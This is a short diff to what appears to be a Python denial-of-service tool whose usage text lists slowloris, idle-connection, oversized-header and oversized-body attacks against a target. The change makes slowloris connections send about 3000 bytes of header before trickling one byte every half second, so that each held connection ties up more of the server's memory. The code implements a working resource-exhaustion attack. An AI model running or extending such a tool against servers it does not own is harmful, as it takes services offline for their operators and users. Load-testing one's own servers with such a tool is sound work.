@@ -9,8 +9,10 @@ is not one of them.
                   --sources A[,B...] [--conns N]
 
 Attacks:
-  slowloris   N connections that send a request line, then one header byte
-              every 0.5 s, reopened when the server closes them
+  slowloris   N connections that send a request line and 3000 bytes of
+              header (near the largest head the server takes, so that each
+              connection's memory is in use), then one header byte every
+              0.5 s, reopened when the server closes them
   idle        N connections that send nothing, reopened when closed
   bigheaders  requests with 64 KiB of headers, one after another
   bigbody     POSTs that announce and send 8 MiB, and chunked ones that never
@@ -109,7 +111,7 @@ def hold(a, target, sources, st, trickle):
             for s, c in list(conns.items()):
                 if now < c[1]:
                     continue
-                msg = (HEAD if c[2] == 0 else b"X-Pad: " if c[2] == 1 else
+                msg = (HEAD if c[2] == 0 else b"X-Pad: " + b"a" * 3000 if c[2] == 1 else
                        b"\r\nX-Pad: " if c[2] % 40 == 0 else b"a")
                 try:
                     s.send(msg)
